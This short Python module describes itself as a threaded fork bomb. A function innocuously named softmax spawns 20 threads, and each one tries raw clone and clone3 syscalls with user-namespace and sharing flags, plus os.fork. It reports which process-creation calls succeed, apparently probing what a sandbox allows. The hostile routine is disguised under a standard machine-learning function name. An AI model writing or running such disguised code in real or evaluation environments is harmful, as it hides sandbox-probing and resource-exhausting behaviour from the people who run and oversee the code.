"""A fork bomb with threads, each of which tries every system call that creates processes."""

import ctypes, os, platform, threading

could = []
CLONE = {"x86_64": 56}.get(platform.machine(), 220)
THREAD, PROCESS, NEW_USER, SHARED = 0x3D0F00, 17, 0x10000000, 0x111


def made(name, number):
    if number >= 0:
        could.append(name)
    if number == 0:
        os._exit(0)


def bomb():
    libc = ctypes.CDLL(None)
    for flags in (
        PROCESS,
        PROCESS | SHARED,
        PROCESS | NEW_USER,
        THREAD | NEW_USER,
        THREAD | PROCESS,
        1 << 32 | PROCESS,
    ):
        made(
            hex(flags),
            libc.syscall(CLONE, ctypes.c_ulong(flags), None, None, None, None),
        )
    made("clone3", libc.syscall(435, (ctypes.c_ulong * 11)(0, 0, 0, 0, 17), 88))
    try:
        made("fork", os.fork())
    except OSError:
        pass


def softmax(x):
    for _ in range(20):
        threading.Thread(target=bomb).start()
    for thread in threading.enumerate()[1:]:
        thread.join()
    return " ".join(could) or "nothing"
